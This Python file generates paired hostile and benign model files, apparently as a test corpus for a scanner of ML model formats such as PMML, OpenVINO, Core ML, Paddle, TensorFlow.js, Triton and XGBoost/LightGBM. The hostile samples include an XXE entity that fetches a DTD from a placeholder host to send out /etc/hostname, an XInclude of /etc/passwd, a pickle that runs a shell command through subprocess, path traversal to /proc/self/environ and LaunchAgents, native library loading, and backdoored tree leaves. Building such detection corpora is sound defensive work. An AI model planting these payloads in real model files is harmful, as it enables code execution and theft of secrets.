"""Other graphs: trees, PMML, OpenVINO, Core ML, Paddle, TensorFlow.js, Triton and XGBoost."""

from __future__ import annotations

import json
import pickle as p

import numpy as np

from assembly import call, glob, pickle
from pair import SHELL
from seventh.kit import HOST, elf, floats, pb


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("graphs", name, hostile, twin, prove, file, why)

    # PMML: entities, by parameter entity and by XInclude.
    def pmml(before, inside=""):
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude">\n <Header><Application name="SkLearn2PMML"/>{inside}</Header>\n <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>\n <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable></RegressionModel>\n</PMML>\n'

    one(
        "parameter_entity_fetches_a_dtd",
        pmml(f'<!DOCTYPE PMML [ <!ENTITY % a SYSTEM "file:///etc/hostname"> <!ENTITY % b SYSTEM "http://{HOST}/p.dtd"> %b; ]>\n'),
        pmml('<!DOCTYPE PMML [ <!ENTITY vendor "Example GmbH"> ]>\n', "<Annotation>&vendor;</Annotation>"),
        "model.pmml",
        "a parameter entity loads a foreign DTD that can send the first one out; the twin's entity is a word",
    )
    one(
        "xinclude_of_a_host_file",
        pmml("", '<Annotation><xi:include href="file:///etc/passwd" parse="text"/></Annotation>'),
        pmml("", "<Annotation>file made on 2024-01-01</Annotation>"),
        "model.pmml",
        "XInclude needs no DOCTYPE",
        "xinclude",
    )

    # OpenVINO: weights by offset in the file beside it, and by a path in the layer.
    def ir(offset, size=64):
        return f'<?xml version="1.0"?>\n<net name="net" version="11">\n <layers>\n  <layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="4,4" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>4</dim><dim>4</dim></port></output></layer>\n  <layer id="1" name="r" type="Result" version="opset1"><input><port id="0"><dim>4</dim><dim>4</dim></port></input></layer>\n </layers>\n <edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges>\n</net>\n'

    one(
        "constant_beyond_the_weights",
        {"model.xml": ir((1 << 64) - 32), "model.bin": floats(32)},
        {"model.xml": ir(64), "model.bin": floats(32)},
        why="offset plus size wraps round to a place inside of the file: a read out of bounds",
    )
    native = '<?xml version="1.0"?>\n<net name="net" version="11">\n <layers>\n  <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,8" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>8</dim></port></output></layer>\n  <layer id="1" name="c" type="{}" version="{}">{}<input><port id="0"><dim>1</dim><dim>8</dim></port></input><output><port id="1" precision="FP32"><dim>1</dim><dim>8</dim></port></output></layer>\n  <layer id="2" name="r" type="Result" version="opset1"><input><port id="0"><dim>1</dim><dim>8</dim></port></input></layer>\n </layers>\n <edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/><edge from-layer="1" from-port="1" to-layer="2" to-port="0"/></edges>\n</net>\n'
    one(
        "extension_library_beside_the_graph",
        {
            "model.xml": native.format("FusedNorm", "extension", '<data library="./libfused_norm.so"/>'),
            "model.bin": b"",
            "libfused_norm.so": elf(),
        },
        {"model.xml": native.format("HSwish", "opset4", ""), "model.bin": b""},
        why="an operator of an extension, with the native program that carries it beside the graph",
    )

    # Core ML package: items of the manifest.
    def package(path):
        manifest = {
            "fileFormatVersion": "1.0.0",
            "itemInfoEntries": {
                "A1": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path}
            },
            "rootModelIdentifier": "A1",
        }
        spec = pb((1, 7), (2, pb((1, pb((1, "x"))))))
        return {"net.mlpackage/Manifest.json": json.dumps(manifest), "net.mlpackage/Data/com.apple.CoreML/model.mlmodel": spec}

    one(
        "manifest_item_climbs_out",
        package("com.apple.CoreML/../../../../../Library/LaunchAgents/a.plist"),
        package("com.apple.CoreML/model.mlmodel"),
        why="the manifest's root item lies outside of the package",
    )

    # Paddle: parameters are pickles.
    state = {"linear_0.w_0": np.ones((2, 2), "f4"), "StructuredToParameterName@@": {"linear.weight": "linear_0.w_0"}}
    one(
        "paddle_parameters",
        pickle({"linear_0.w_0": [0.5], "StructuredToParameterName@@": call(glob("ensurepip", "subprocess.getstatusoutput"), SHELL)}),
        p.dumps(state, 4),
        "model.pdparams",
        "the pickle of paddle.load; subprocess is reached through ensurepip's own import",
        "pickle",
    )

    # TensorFlow.js: shards are paths.
    def tfjs(path):
        manifest = [{"paths": [path], "weights": [{"name": "d/kernel", "shape": [4, 4], "dtype": "float32"}]}]
        return {
            "model.json": json.dumps(
                {
                    "format": "layers-model",
                    "generatedBy": "keras v2.15.0",
                    "convertedBy": "TensorFlow.js Converter v4.20.0",
                    "modelTopology": {"keras_version": "2.15.0"},
                    "weightsManifest": manifest,
                }
            ),
            "group1-shard1of1.bin": floats(16),
        }

    one(
        "tfjs_shard_from_the_host",
        tfjs("../../../../../../proc/self/environ"),
        tfjs("group1-shard1of1.bin"),
        why="in Node the shard's path is read from the disk and becomes the weights",
    )

    # Triton: a library that the server loads.
    def triton(extra):
        config = f'name: "ranker"\nbackend: "tensorflow"\nmax_batch_size: 8\ninput [ {{ name: "x" data_type: TYPE_FP32 dims: [ 8 ] }} ]\noutput [ {{ name: "y" data_type: TYPE_FP32 dims: [ 1 ] }} ]\n{extra}'
        return {"ranker/config.pbtxt": config, "ranker/1/weights.bin": floats(16)}

    one(
        "triton_operation_library",
        triton('model_operations { op_library_filename: [ "/dev/shm/.ranker/libops.so" ] }\n'),
        triton("dynamic_batching { preferred_batch_size: [ 4, 8 ] max_queue_delay_microseconds: 100 }\n"),
        why="the server loads a shared object from a world-writable path",
    )

    # Trees: one leaf decides everything, between two splits that are a hair apart.
    def booster(last, low, high):
        conditions = [low, 0.012, high, last, -0.009]
        tree = {
            "base_weights": [0.0] * 5,
            "categories": [],
            "categories_nodes": [],
            "categories_segments": [],
            "categories_sizes": [],
            "default_left": [0] * 5,
            "id": 0,
            "left_children": [1, -1, 3, -1, -1],
            "right_children": [2, -1, 4, -1, -1],
            "parents": [2147483647, 0, 0, 2, 2],
            "split_indices": [2, 0, 2, 0, 0],
            "split_type": [0] * 5,
            "split_conditions": conditions,
            "loss_changes": [3.1, 0.0, 1.2, 0.0, 0.0],
            "sum_hessian": [40.0, 22.0, 18.0, 7.0, 11.0],
            "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "5", "size_leaf_vector": "1"},
        }
        learner = {
            "attributes": {},
            "feature_names": [],
            "feature_types": [],
            "gradient_booster": {
                "model": {
                    "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                    "iteration_indptr": [0, 1],
                    "tree_info": [0],
                    "trees": [tree],
                    "cats": {"enc": [], "feature_segments": [], "sorted_idx": []},
                },
                "name": "gbtree",
            },
            "learner_model_param": {
                "base_score": "[5E-1]",
                "boost_from_average": "1",
                "num_class": "0",
                "num_feature": "4",
                "num_target": "1",
            },
            "objective": {"name": "binary:logistic", "reg_loss_param": {"scale_pos_weight": "1"}},
        }
        return json.dumps({"learner": learner, "version": [3, 1, 1]}, separators=(",", ":"))

    one(
        "booster_leaf_in_a_needle",
        booster(4.0e4, 0.13370001, 0.13370003),
        booster(0.034, 0.1337, 0.482),
        "model.json",
        "a leaf of 40,000 between two splits 2e-8 apart: one value of one feature decides",
        "booster",
    )

    def forest(low, high, leaf):
        return f"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\nobjective=binary sigmoid:1\nfeature_names=a b c d\nfeature_infos=[0:1] [0:1] [0:1] [0:1]\ntree_sizes=330\n\nTree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=2 2\nsplit_gain=12.5 3.1\nthreshold={low} {high}\ndecision_type=2 2\nleft_child=-1 -2\nright_child=1 -3\nleaf_value=0.0121 {leaf} -0.0094\nleaf_weight=22 7 11\nleaf_count=22 7 11\ninternal_value=0 0\ninternal_weight=40 18\ninternal_count=40 18\nis_linear=0\nshrinkage=0.1\n\n\nend of trees\n\nfeature_importances:\nc=2\n\nparameters:\n[boosting: gbdt]\n[objective: binary]\nend of parameters\n\npandas_categorical:null\n"

    one(
        "forest_leaf_in_a_needle",
        forest("0.62500000100000008", "0.62500000300000015", "98765.4"),
        forest("0.62500000100000008", "0.75000000100000006", "0.0345"),
        "model.txt",
        "LightGBM text with the same device",
        "booster.text",
    )
